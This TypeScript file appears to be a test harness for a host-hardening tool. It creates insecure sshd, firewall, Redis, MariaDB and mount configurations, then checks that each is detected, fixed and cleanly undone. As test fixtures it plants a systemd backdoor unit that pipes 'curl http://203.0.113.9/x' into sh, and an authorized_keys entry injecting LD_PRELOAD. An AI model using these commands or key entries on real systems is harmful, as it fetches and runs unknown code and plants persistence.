/**
 * Run apart (network/labs/apart.ts) with a folder before all others in /usr/sbin (a real sshd, and a stand-in for systemctl that
 * keeps the state of units in files, since no systemd runs in a test): each case is found, mended as `host fix` does it, looked
 * at again, and taken back. Prints what was seen of each.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import {
  copyFileSync,
  existsSync,
  globSync,
  lstatSync,
  mkdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { setTimeout as pause } from 'node:timers/promises';
import { scratchHost, type ScratchHost } from './scratch-host.ts';

export interface Seen {
  readonly name: string;
  /** Of the resource: before, mended, and taken back; `''`: nothing was wrong with it. */
  readonly told: readonly string[];
  /** What is not as it was after taking it back. */
  readonly left: readonly string[];
}

interface Case {
  readonly id: string;
  readonly resource: string;
  readonly prepare: (host: ScratchHost) => void;
  /** Makes the facts anew. */
  readonly look: (host: ScratchHost) => Promise<unknown>;
}

const REDIS = process.env['LAB_REDIS'] ?? '';
const UNITS = process.env['LAB_UNITS'] ?? '';
const place = { root: '', init: 'systemd' } as const;

const sshd = (id: string, keyword: string, settings: string, more = ''): Case => ({
  id,
  resource: `sshd:${keyword}`,
  prepare(host) {
    const key = join(host.folder('etc/ssh'), 'ssh_host_ed25519_key');
    execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', key]);
    host.folder('etc/ssh/sshd_config.d');
    // The last one lies in the scratch root, whence the fix does not see that a folder is read first.
    host.file('etc/ssh/sshd_config', `HostKey ${key}\nUsePAM no\n${settings}\n`);
    host.file('var/log/auth.log', more);
    host.file(
      'proc/net/fib_trie',
      'Main:\n     |-- 198.18.0.1\n        /32 host LOCAL\n     |-- 8.8.8.8\n        /32 host LOCAL\n',
    );
    host.records('sockets', [['tcp', 'LISTEN', '0.0.0.0', 22, '', '', 0, 1, 7, 3, 'sshd']]);
  },
  look: (host) => host.look('sshd'),
});

const OPEN =
  'table inet mine { chain input { type filter hook input priority 0; policy accept; tcp dport 23 drop; }; }';
const ONLY_IPV4 = `table ip mine { chain input { type filter hook input priority 0; policy drop; }; }`;

const firewall = (id: string, resource: string, rules: string, port = 8080): Case => ({
  id,
  resource,
  prepare(host) {
    if (rules !== '') execFileSync('nft', ['-f', '-'], { input: rules });
    host.records('sockets', [['tcp6', 'LISTEN', '::', port, '', '', 0, 1, 7, 3, 'server']]);
    host.file('proc/net/if_inet6', '20010db8000000000000000000000001 02 40 00 80 eth0\n');
    host.folder('sys/class/net/eth0');
    unit('nftables.service', { active: 'inactive', enabled: 'disabled' });
  },
  look(host) {
    // As systemd links a unit that is enabled.
    const link = host.file('etc/systemd/system/sysinit.target.wants/nftables.service', '');
    if (readFileSync(join(UNITS, 'nftables.service.enabled'), 'utf8').trim() !== 'enabled') rmSync(link);
    return host.look('firewall');
  },
});

function unit(name: string, state: { readonly active: string; readonly enabled: string }): void {
  for (const [key, value] of Object.entries(state)) writeFileSync(join(UNITS, `${name}.${key}`), `${value}\n`);
}

const running = (host: ScratchHost, comm: string) =>
  host.records('processes', [[7, 1, 0, 0, 1, 0, 0, 'S', comm, `/usr/sbin/${comm}`, 0, '/', 0, comm]]);

const KEY = readKey();
function readKey(): string {
  const path = join(UNITS, 'key');
  execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', path]);
  return readFileSync(`${path}.pub`, 'utf8').trim();
}
const PRINT =
  execFileSync('ssh-keygen', ['-lf', `${join(UNITS, 'key')}.pub`], { encoding: 'utf8' }).split(' ')[1] ?? '';

const cases: readonly Case[] = [
  sshd('SSH-01', 'permitemptypasswords', 'PermitEmptyPasswords yes'),
  sshd('SSH-02', 'permitrootlogin', 'PermitRootLogin yes'),
  sshd('SSH-03', 'passwordauthentication', 'PasswordAuthentication yes', 'sshd[1]: Accepted publickey for anna\n'),
  sshd('SSH-04', 'ciphers', 'Ciphers +3des-cbc'),
  sshd('SSH-05', 'maxauthtries', 'MaxAuthTries 10'),
  sshd('SSH-05', 'maxstartups', 'MaxStartups 100:30:200'),
  sshd('SSH-07', 'permituserenvironment', 'PermitUserEnvironment yes'),
  {
    id: 'SSH-08',
    resource: `key:${PRINT}@root:environment`,
    prepare(host) {
      host.file('root/.ssh/authorized_keys', `# mine\nenvironment="LD_PRELOAD=/tmp/x.so" ${KEY}\n`, 0o600);
    },
    look: () => Promise.resolve(),
  },
  firewall('FW-01', 'firewall:input', ''),
  firewall('FW-02', 'firewall:ipv4', OPEN),
  firewall('FW-03', 'firewall:ipv6', ONLY_IPV4),
  firewall('FW-05', 'port:tcp/3306', OPEN, 3306),
  firewall('FW-06', 'firewall:saved', OPEN),
  {
    id: 'BKD-04',
    resource: '/etc/systemd/system/odd.service',
    prepare(host) {
      host.owns();
      host.file('etc/systemd/system/odd.service', '[Service]\nExecStart=/bin/sh -c "curl http://203.0.113.9/x | sh"\n');
      unit('odd.service', { active: 'active', enabled: 'enabled' });
    },
    look: () => Promise.resolve(),
  },
  {
    id: 'SYS-02',
    resource: 'package:tftpd-hpa',
    prepare(host) {
      host.fact('packages/list', 'tftpd-hpa 5.2\n');
      unit('tftpd-hpa', { active: 'active', enabled: 'enabled' });
    },
    look(host) {
      running(host, readFileSync(join(UNITS, 'tftpd-hpa.active'), 'utf8').trim() === 'active' ? 'in.tftpd' : 'bash');
      return Promise.resolve();
    },
  },
  {
    id: 'NET-01',
    resource: 'listener:redis-server/6379',
    prepare(host) {
      symlinkSync('/proc', join(host.root, 'proc'));
      const settings = host.file('etc/redis/redis.conf', 'port 6379\nbind 0.0.0.0\nprotected-mode no\nsave ""\n');
      serve('redis-server', [REDIS, settings]);
    },
    async look(host) {
      const isHeard = (): boolean => / [0-9A-F]+:18EB [0-9A-F:]+ 0A /.test(readFileSync('/proc/net/tcp', 'utf8'));
      while (!isHeard()) await pause(20);
      await host.look('processes', 'sockets');
    },
  },
  {
    id: 'SQL-05',
    resource: 'mysql:bind_address',
    prepare(host) {
      const [data, socket] = [join(UNITS, 'mysql'), '/run/mysqld.sock'];
      execFileSync(
        '/usr/bin/mariadb-install-db',
        ['--no-defaults', '--user=root', `--datadir=${data}`, '--skip-test-db'],
        {
          stdio: 'ignore',
        },
      );
      const included = host.folder('etc/mysql/mariadb.conf.d', 0o755);
      const settings = host.file(
        'etc/mysql/my.cnf',
        `[mysqld]\nuser=root\ndatadir=${data}\nsocket=${socket}\nport=3306\nbind-address=*\nssl=0\n!includedir ${included}\n`,
      );
      serve('mariadb', ['/usr/sbin/mariadbd', `--defaults-file=${settings}`]);
    },
    async look(host) {
      const pid = readFileSync(join(UNITS, 'mariadb.pid'), 'utf8').trim();
      const isLetIn = (): boolean =>
        spawnSync('/usr/bin/mariadb', ['--no-defaults', '--user=root', '--socket=/run/mysqld.sock', '-e', 'SELECT 1'])
          .status === 0;
      while (!isLetIn()) await pause(20);
      host.file(`proc/${pid}/cgroup`, '0::/system.slice/mariadb.service\n');
      host.fact(
        'mysql',
        `client /usr/bin/mariadb\nserver true\nprocess ${pid} /usr/sbin/mariadbd\nsocket /run/mysqld.sock\n`,
      );
    },
  },
  {
    id: 'FIL-04',
    resource: '/dev/shm',
    prepare(host) {
      execFileSync('mount', ['-t', 'tmpfs', '-o', 'nosuid', 'tmpfs', '/dev/shm']);
      host.file('etc/fstab', 'proc /proc proc defaults 0 0\n');
    },
    look(host) {
      host.file('proc/self/mounts', readFileSync('/proc/self/mounts'));
      return Promise.resolve();
    },
  },
];

/** Left to itself by the namespace of processes, which ends with this. */
function serve(name: string, words: readonly string[]): void {
  // Nobody waits for it here, so that it stays in the list when it has ended.
  const pid = `"$(cat '${UNITS}/${name}.pid')"`;
  const restart = `kill -9 ${pid}; while grep -qs '^State:.[^Z]' /proc/${pid}/status; do :; done`;
  const start = `${words.map((word) => `'${word}'`).join(' ')} >/dev/null 2>&1 & echo $! >'${UNITS}/${name}.pid'`;
  writeFileSync(join(UNITS, `${name}.start`), start);
  writeFileSync(join(UNITS, `${name}.restart`), `${restart}\n${start}\n`);
  execFileSync('sh', [join(UNITS, `${name}.start`)]);
}

/** Files of the scratch root, rules of this network and units, but for what stands for the kernel. */
function state({ root }: ScratchHost): readonly string[] {
  const files = globSync('**', { cwd: root })
    .filter((path) => !path.startsWith('proc'))
    .map((path) => {
      const { mode, uid, gid } = lstatSync(join(root, path));
      const content = lstatSync(join(root, path)).isFile() ? readFileSync(join(root, path), 'base64') : '';
      return `${path} ${mode.toString(8)} ${uid}:${gid} ${content}`;
    });
  const units = globSync('*.{active,enabled}', { cwd: UNITS }).map(
    (name) => `${name} ${readFileSync(join(UNITS, name), 'utf8')}`,
  );
  const rules = execFileSync('nft', ['-s', 'list', 'ruleset'], { encoding: 'utf8' });
  return [...files, ...units, rules, readFileSync('/proc/self/mounts', 'utf8')].toSorted();
}

const seen: Seen[] = [];
for (const { id, resource, prepare, look } of cases) {
  using host = scratchHost();
  execFileSync('nft', ['flush', 'ruleset']);
  copyFileSync('/etc/passwd', host.file('etc/passwd', ''));
  host.file('etc/group', 'root:x:0:\n');
  if (!existsSync(join(host.root, 'run'))) mkdirSync(join(host.root, 'run'));
  prepare(host);
  const told: string[] = [];
  const tell = async (): Promise<void> => {
    await look(host);
    const { verdicts } = await host.detect(id);
    const wrong = verdicts.filter((each) => each.verdict === 'fail' && each.resource === resource);
    told.push(wrong.map((each) => (each.verdict === 'fail' ? (each.severity ?? '-') : '')).join());
  };
  await tell();
  const before = state(host);
  const mended = await host.mend(id, resource, {}, place);
  await tell();
  await mended.undo();
  await tell();
  const after = state(host);
  const left = [...before.filter((each) => !after.includes(each)), ...after.filter((each) => !before.includes(each))];
  seen.push({ name: `${id} ${resource}`, told, left });
}
process.stdout.write(JSON.stringify(seen));
